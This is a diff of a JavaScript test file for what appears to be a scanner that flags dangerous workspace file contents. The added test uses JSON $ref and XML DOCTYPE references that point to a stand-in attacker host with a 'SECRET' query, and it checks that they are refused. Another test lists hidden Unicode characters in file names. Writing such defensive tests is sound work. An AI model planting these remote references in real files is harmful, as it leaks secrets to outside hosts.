@@ -108,6 +108,11 @@ describe('Attacks with paths', () => {
     assert.equal(contentReasons('data.yml', '# yaml-language-server: $schema=http://evil.invalid/x\na: 1').length, 1);
   });
 
+  it('B19: a schema of the workspace does not lead to a remote one unasked', () => {
+    assert.equal(contentReasons('a.json', '{"$schema": "./a.json", "$ref": "https://evil.invalid/?d=SECRET"}').length, 1);
+    assert.equal(contentReasons('a.xml', '<!DOCTYPE r PUBLIC "-//x//y" "https://evil.invalid/?d=SECRET"><r/>').length, 1);
+  });
+
   it('B20(c): a name with hidden characters is refused, and the refusal shows them', async () => {
     for (const character of ['\u202E', '\u200B', '\u2066', '\u{E0041}', '\uFE00', '\u00AD', '\u3164', '\0', '\u001B']) {
       const path = `src/a${character}.ts`;
